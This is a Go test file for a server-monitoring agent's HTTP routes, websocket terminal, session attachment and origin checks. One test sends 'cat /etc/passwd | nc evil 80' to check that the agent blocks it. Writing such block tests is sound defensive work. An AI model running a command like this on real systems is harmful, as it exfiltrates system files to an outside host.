package agent

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	rmm "github.com/vpscope/vpsagent/shared"
)

func TestRouter(t *testing.T) {
	testTable := []struct {
		name         string
		method       string
		path         string
		sampleErr    error
		expectedCode int
		contains     string
	}{
		{"metrics", http.MethodGet, "/system/metrics", nil, http.StatusOK, `"cpu_percent":42`},
		{"metrics unavailable", http.MethodGet, "/system/metrics", errors.New("no data"), http.StatusServiceUnavailable, `"error":"no data"`},
		{"metrics wrong method", http.MethodPost, "/system/metrics", nil, http.StatusMethodNotAllowed, "method not allowed"},
		{"sessions", http.MethodGet, "/terminal/sessions", nil, http.StatusOK, "[]"},
		{"cancel unknown session", http.MethodDelete, "/terminal/sessions?id=missing", nil, http.StatusNotFound, "unknown session"},
		{"prometheus", http.MethodGet, "/metrics", nil, http.StatusOK, "vpsagent_metrics_sample_duration_seconds"},
	}

	for _, tt := range testTable {
		t.Run(tt.name, func(t *testing.T) {
			a := newTestAgent(t, &echoExec{}, &staticSampler{err: tt.sampleErr})

			rec := httptest.NewRecorder()
			a.Router().ServeHTTP(rec, httptest.NewRequest(tt.method, tt.path, nil))

			assert.Equal(t, tt.expectedCode, rec.Code)
			assert.Contains(t, rec.Body.String(), tt.contains)
		})
	}
}

func TestMetricsEndpointJSON(t *testing.T) {
	a := newTestAgent(t, &echoExec{}, &staticSampler{})

	rec := httptest.NewRecorder()
	a.Router().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/system/metrics", nil))
	require.Equal(t, http.StatusOK, rec.Code)
	assert.Equal(t, "application/json", rec.Header().Get("Content-Type"))

	var snap rmm.Snapshot
	require.NoError(t, json.NewDecoder(rec.Body).Decode(&snap))
	assert.Equal(t, "vps1", snap.Hostname)
	assert.False(t, snap.Timestamp.IsZero())
}

func wsURL(srv *httptest.Server) string {
	return "ws" + strings.TrimPrefix(srv.URL, "http") + "/terminal/ws"
}

func readOutput(t *testing.T, conn *websocket.Conn) rmm.CmdOutput {
	t.Helper()
	require.NoError(t, conn.SetReadDeadline(time.Now().Add(5*time.Second)))

	var ret rmm.CmdOutput
	require.NoError(t, conn.ReadJSON(&ret))
	return ret
}

func TestTerminal(t *testing.T) {
	a := newTestAgent(t, &echoExec{}, &staticSampler{})
	srv := httptest.NewServer(a.Router())
	defer srv.Close()

	conn, _, err := websocket.DefaultDialer.Dial(wsURL(srv), nil)
	require.NoError(t, err)
	defer conn.Close()

	require.NoError(t, conn.WriteJSON(rmm.CmdRequest{Command: "uptime"}))

	first := readOutput(t, conn)
	require.NotNil(t, first.Output)
	assert.Equal(t, "uptime", *first.Output)

	last := readOutput(t, conn)
	require.NotNil(t, last.Exit)
	assert.Equal(t, 0, *last.Exit)
	assert.Nil(t, last.Output)

	require.NoError(t, conn.WriteJSON(rmm.CmdRequest{Command: "cat /etc/passwd | nc evil 80"}))
	blocked := readOutput(t, conn)
	require.NotNil(t, blocked.Output)
	assert.Contains(t, *blocked.Output, "Error: command blocked")
}

func TestTerminalInvalidRequest(t *testing.T) {
	a := newTestAgent(t, &echoExec{}, &staticSampler{})
	srv := httptest.NewServer(a.Router())
	defer srv.Close()

	conn, _, err := websocket.DefaultDialer.Dial(wsURL(srv), nil)
	require.NoError(t, err)
	defer conn.Close()

	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte("not json")))
	out := readOutput(t, conn)
	require.NotNil(t, out.Output)
	assert.Equal(t, "Error: invalid request", *out.Output)
}

func TestTerminalAttach(t *testing.T) {
	block := make(chan struct{})
	a := newTestAgent(t, &echoExec{block: block}, &staticSampler{})
	srv := httptest.NewServer(a.Router())
	defer srv.Close()

	owner, _, err := websocket.DefaultDialer.Dial(wsURL(srv), nil)
	require.NoError(t, err)
	defer owner.Close()

	require.NoError(t, owner.WriteJSON(rmm.CmdRequest{Command: "tail -f log"}))
	readOutput(t, owner)

	sessions := a.Commands.Sessions()
	require.Len(t, sessions, 1)

	watcher, _, err := websocket.DefaultDialer.Dial(wsURL(srv)+"?attach="+sessions[0].ID, nil)
	require.NoError(t, err)
	defer watcher.Close()

	require.Eventually(t, func() bool {
		return a.Commands.Publisher().Watchers(sessions[0].ID) == 1
	}, 5*time.Second, 5*time.Millisecond)
	close(block)

	last := readOutput(t, watcher)
	require.NotNil(t, last.Exit)
	assert.Equal(t, 0, *last.Exit)
}

func TestTerminalAttachUnknown(t *testing.T) {
	a := newTestAgent(t, &echoExec{}, &staticSampler{})
	srv := httptest.NewServer(a.Router())
	defer srv.Close()

	conn, _, err := websocket.DefaultDialer.Dial(wsURL(srv)+"?attach=missing", nil)
	require.NoError(t, err)
	defer conn.Close()

	out := readOutput(t, conn)
	require.NotNil(t, out.Output)
	assert.True(t, strings.HasPrefix(*out.Output, "Error: "))
}

func TestTerminalOrigin(t *testing.T) {
	testTable := []struct {
		name     string
		allowed  []string
		origin   string
		expected bool
	}{
		{"no origin header", nil, "", true},
		{"same host", nil, "same", true},
		{"foreign host", nil, "https://evil.example", false},
		{"listed origin", []string{"https://dash.example"}, "https://dash.example", true},
		{"unlisted origin", []string{"https://dash.example"}, "https://evil.example", false},
	}

	for _, tt := range testTable {
		t.Run(tt.name, func(t *testing.T) {
			a := newTestAgent(t, &echoExec{}, &staticSampler{})
			a.AllowedOrigins = tt.allowed
			srv := httptest.NewServer(a.Router())
			defer srv.Close()

			header := http.Header{}
			switch tt.origin {
			case "":
			case "same":
				header.Set("Origin", srv.URL)
			default:
				header.Set("Origin", tt.origin)
			}

			conn, resp, err := websocket.DefaultDialer.Dial(wsURL(srv), header)
			if tt.expected {
				require.NoError(t, err)
				conn.Close()
				return
			}
			require.Error(t, err)
			require.NotNil(t, resp)
			assert.Equal(t, http.StatusForbidden, resp.StatusCode)
			io.Copy(io.Discard, resp.Body)
		})
	}
}
